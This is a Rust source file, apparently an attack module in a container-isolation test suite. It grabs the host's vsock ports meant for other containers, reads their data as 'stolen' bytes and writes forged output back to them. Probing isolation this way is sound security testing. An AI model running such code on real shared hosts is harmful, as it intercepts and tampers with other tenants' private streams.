//! Connects to the host's ports for other containers' streams, before those whom they were promised to.

use std::{
    collections::{BTreeMap, btree_map::Entry},
    io::{Read, Write},
    net::TcpStream,
    os::fd::OwnedFd,
    path::Path,
    time::Duration,
};

use super::OVER;
use crate::{attempt::name_of, sys};

/// The first port of streams, and how far the ports of a host with few containers reach. More would be a flood of
/// connections, which is another attack.
const FIRST: u32 = 1025;
const LAST: u32 = 1025 + 96;

/// Time in which others get a processor, too.
const PAUSE: Duration = Duration::from_millis(2);

/// What it writes where somebody may take it for a neighbour's output.
const FORGED: &[u8] = b"FORGED\n";

pub(super) fn run(arguments: &[String]) {
    let from: u32 = arguments
        .first()
        .and_then(|word| word.parse().ok())
        .unwrap_or(FIRST);
    if let Err(number) = sys::vsock(from, libc::SOCK_NONBLOCK)
        && number != libc::ECONNRESET
    {
        println!("vsock: {}", name_of(number));
        println!("ready");
        wait();
        return;
    }
    println!("vsock: open");
    println!("ready");
    let (mut stolen, mut kept) = (0, BTreeMap::new());
    while !Path::new(OVER).exists() {
        for port in from..LAST {
            if let Entry::Vacant(free) = kept.entry(port)
                && let Ok(socket) = sys::vsock(port, libc::SOCK_NONBLOCK)
            {
                free.insert(stream(socket));
            }
        }
        kept.retain(|_, stream| is_open(stream, &mut stolen));
        std::thread::sleep(PAUSE);
    }
    println!("stolen: {stolen} bytes");
}

/// The library's own streams read and write any socket.
fn stream(socket: OwnedFd) -> TcpStream {
    TcpStream::from(socket)
}

/// Reads and writes what it can; false when the other side has closed it.
fn is_open(stream: &mut TcpStream, stolen: &mut usize) -> bool {
    let mut room = [0; 4096];
    match stream.read(&mut room) {
        Ok(0) => return false,
        Ok(length) => *stolen += length,
        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
        Err(error) if error.raw_os_error() == Some(libc::ENOTCONN) => return true,
        Err(_) => return false,
    }
    stream.write_all(FORGED).is_ok()
}

fn wait() {
    while !Path::new(OVER).exists() {
        std::thread::sleep(PAUSE);
    }
}
